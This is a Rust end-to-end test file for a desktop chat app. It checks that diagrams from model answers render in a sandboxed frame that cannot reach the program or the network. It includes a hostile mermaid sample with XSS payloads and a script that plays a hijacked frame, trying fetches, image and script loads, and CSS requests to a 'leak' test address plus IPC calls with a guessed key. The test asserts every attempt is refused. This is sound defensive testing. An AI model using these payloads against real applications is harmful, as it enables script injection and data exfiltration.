//! A diagram in the real window: drawn where nothing of the program can be reached, shown as an image.

use crate::harness::Window;
use parallax_suite::support::{
    program::Program,
    replay::{Answer, Replay, Route},
};
use serde_json::{Value, json};

const PLAIN: &str = "Here it is:\n\n```mermaid\nflowchart LR\n  Ask --> Answer\n  Answer --> Compare\n```\n";
/// What a hostile answer would like to do from inside a diagram.
const HOSTILE: &str = "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true, \
    \"themeCSS\": \"* { background: url(http://127.0.0.1:9/leak) }\"}}%%\nflowchart LR\n  \
    A[\"<img src=x onerror='parent.pwned=1'>\"] --> B[\"<script>parent.pwned=1</script>\"]\n  \
    click A href \"javascript:parent.pwned=1\"\n```\n";
const WRONG: &str = "```mermaid\nflowchart LR\n  A --> --> B (\n```\n";

/// The answer that a prompt asks for by a word.
fn answer(body: &str) -> Answer {
    let text = [("plain", PLAIN), ("hostile", HOSTILE), ("wrong", WRONG)]
        .into_iter()
        .rev()
        .find(|(word, _)| body.contains(&format!("Draw the {word} one")))
        .map_or("Nothing to draw.", |(_, text)| text);
    let event = |delta: Value, finish: Value| json!({ "id": "r", "model": "gpt-4.1", "choices": [{ "index": 0, "delta": delta, "finish_reason": finish }] });
    Answer::event_stream(format!(
        "data: {}\n\ndata: {}\n\ndata: [DONE]\n\n",
        event(json!({ "content": text }), Value::Null),
        event(json!({}), json!("stop")),
    ))
}

const SHOWN: &str = "document.querySelector('[data-testid=\"drawing\"]')";

/// Asks for an answer in a chat of its own and presses Draw.
async fn draw(window: &Window, word: &str) {
    window.click("new-chat").await;
    window.until("the page is empty", "!document.querySelector('.turn')").await;
    window.type_into("composer", &format!("Draw the {word} one")).await;
    window.click("send").await;
    window.lane_reaches(0, &["done"]).await;
    window.until("there is something to draw", "document.querySelector('.code-draw')").await;
    window.script("document.querySelector('.code-draw').click()", vec![]).await;
}

#[tokio::test]
async fn a_diagram_is_drawn_without_a_way_to_the_program() {
    let program = Program::new();
    let server = Replay::start(vec![Route::with(|seen| answer(&seen.text()))]);
    let base = format!("{}/v1", server.url());
    program.ok(&["provider", "add", "openai", "--dialect", "openai-chat", "--base-url", &base]);
    let window = Window::open(&program.folder()).await;
    window.click("onboarding-skip").await;
    for _ in 0..4 {
        window.click("chip-remove-0").await;
    }
    window.add_model("openai/gpt-4.1").await;

    draw(&window, "plain").await;
    window.until("the frame is gone", "!document.querySelector('iframe')").await;
    window.until("it is drawn", &format!("{SHOWN}?.querySelector('img')?.naturalWidth > 50")).await;
    window.shots("diagram").await;
    // After another page and in another language it stands there as it was drawn.
    window
        .script(
            "window.drawings = 0; new MutationObserver((changes) => { for (const change of changes) \
         for (const node of change.addedNodes) window.drawings += node.nodeName === 'IFRAME' ? 1 : 0; \
         }).observe(document.body, { childList: true, subtree: true });",
            vec![],
        )
        .await;
    window.click("nav-settings").await;
    window.click("language-de").await;
    window.until("the window speaks German", "document.documentElement.lang === 'de'").await;
    window.click("nav-chats").await;
    window.until("it is there", &format!("{SHOWN}?.querySelector('img')?.naturalWidth > 50")).await;
    let alt = window.script(&format!("return {SHOWN}.querySelector('img').alt"), vec![]).await;
    assert_eq!(alt, "Diagramm; sein Quelltext folgt");
    assert_eq!(window.script("return window.drawings", vec![]).await, 0, "it was not drawn anew");
    window.shots("diagram-german").await;
    window.click("nav-settings").await;
    window.click("language-en").await;
    window.until("the window speaks English", "document.documentElement.lang === 'en'").await;

    draw(&window, "hostile").await;
    window.until("it ends", &format!("{SHOWN}?.querySelector('img, .note')")).await;
    assert_eq!(window.script("return window.pwned ?? null", vec![]).await, Value::Null);

    draw(&window, "wrong").await;
    window.until("it says why not", &format!("{SHOWN}?.querySelector('.note')")).await;
    let source = window.script("return document.querySelector('figure.code pre').innerText", vec![]).await;
    assert!(source.as_str().unwrap().contains("A --> -->"), "the source stays: {source}");
    window.close().await.unwrap();
}

/// A frame as drawings get it, that stays. Without the attribute it has an origin.
const FRAME: &str = "const [closed, done] = arguments; const frame = document.createElement('iframe'); \
    if (closed) frame.setAttribute('sandbox', 'allow-scripts'); frame.src = 'diagram://localhost/'; \
    addEventListener('message', (event) => { if (event.source === frame.contentWindow) \
      done({ origin: event.origin, data: event.data }); }); \
    document.body.append(frame);";

/// What a script would try that has taken the whole frame over. `leak` = an address that hears of it.
const TRY: &str = "const [leak, done] = arguments; (async () => { \
    const tried = async (what) => { try { return String(await what() ?? 'nothing'); } catch (e) { return 'refused'; } }; \
    const later = new Promise((go) => setTimeout(go, 500)); \
    const call = { cmd: 'rpc', callback: 1, error: 2, payload: { cmd: 'settings/theme', payload: { theme: 'dark' } }, \
      options: { headers: {} }, __TAURI_INVOKE_KEY__: 'guess' }; \
    const image = (src) => new Promise((go, no) => { const i = new Image(); i.onload = () => go('loaded'); i.onerror = no; i.src = src; }); \
    const out = { \
      bridge: typeof window.__TAURI_INTERNALS__ + typeof window.__TAURI__ + typeof window.ipc, \
      origin: self.origin, \
      parent: await tried(() => parent.document.title), \
      top: await tried(() => { top.location.href = leak + '/top'; }), \
      store: await tried(() => localStorage.length), \
      net: await tried(() => fetch(leak + '/fetch', { mode: 'no-cors' })), \
      ipc: await tried(() => fetch('ipc://localhost/rpc', { method: 'POST', body: JSON.stringify(call.payload), \
        headers: { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guess' } })), \
      app: await tried(() => fetch('tauri://localhost/index.html')), \
      image: await tried(() => image(leak + '/image')), \
      inline: await tried(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; \
        document.head.append(s); return window.ran; }), \
      far: await tried(() => new Promise((go, no) => { const s = document.createElement('script'); \
        s.onload = () => go('loaded'); s.onerror = no; s.src = leak + '/script.js'; document.head.append(s); })), \
      code: await tried(() => new Function('return 1')()), \
      open: await tried(() => open(leak + '/window') === null ? 'null' : 'opened'), \
      port: await tried(() => { window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify(call)); }), \
    }; \
    const css = document.createElement('style'); css.textContent = `body { background: url(${leak}/css) }`; document.head.append(css); \
    await later; done(out); })();";

#[tokio::test]
async fn what_takes_the_frame_over_is_still_nowhere() {
    let program = Program::new();
    let server = Replay::start(vec![Route::with(|_| Answer::status(200))]);
    let window = Window::open(&program.folder()).await;
    window.click("onboarding-skip").await;
    window.get("composer").await;
    let here = window.script("return location.href", vec![]).await;
    let framed = window.page.execute_async(FRAME, vec![json!(true)]).await.unwrap().json().clone();
    assert_eq!(framed, json!({ "origin": "null", "data": { "ready": true } }));
    window.page.enter_frame(0).await.unwrap();
    let tried = window.page.execute_async(TRY, vec![json!(server.url())]).await.unwrap().json().clone();
    window.page.enter_default_frame().await.unwrap();
    assert_eq!(tried["bridge"], "undefinedundefinedundefined", "{tried}");
    assert_eq!(tried["origin"], "null", "{tried}");
    for refused in ["parent", "store", "net", "ipc", "app", "image", "far", "code"] {
        assert_eq!(tried[refused], "refused", "{refused}: {tried}");
    }
    assert_eq!(tried["inline"], "nothing", "{tried}");
    assert_ne!(tried["open"], "opened", "{tried}");
    assert_eq!(window.script("return location.href", vec![]).await, here, "the window stays where it is");
    assert_eq!(server.connections(), 0, "nothing reached the outside: {tried}");

    // What the frame called was not done; the same call of the window itself is.
    let theme = "const done = arguments[arguments.length - 1]; \
                 window.__TAURI_INTERNALS__.invoke('rpc', { cmd: 'app/state', payload: null }).then((s) => done(s.theme), (e) => done(String(e)));";
    let state = async || window.page.execute_async(theme, vec![]).await.unwrap().json().clone();
    assert_eq!(state().await, "system");
    let set = "window.__TAURI_INTERNALS__.invoke('rpc', { cmd: 'settings/theme', payload: { theme: 'dark' } })\
               .then(() => arguments[arguments.length - 1](true), (e) => arguments[arguments.length - 1](String(e)));";
    assert_eq!(window.page.execute_async(set, vec![]).await.unwrap().json(), &json!(true));
    assert_eq!(state().await, "dark");

    // Where somebody forgot to close the frame, its own policy does.
    let framed = window.page.execute_async(FRAME, vec![json!(false)]).await.unwrap().json().clone();
    assert_eq!(framed["origin"], "null", "{framed}");
    // And no other address may be framed at all.
    let other = "const done = arguments[arguments.length - 1]; const frame = document.createElement('iframe'); \
                 document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective)); \
                 frame.src = './index.html'; document.body.append(frame);";
    assert_eq!(window.page.execute_async(other, vec![]).await.unwrap().json(), "frame-src");
    window.close().await.unwrap();
}
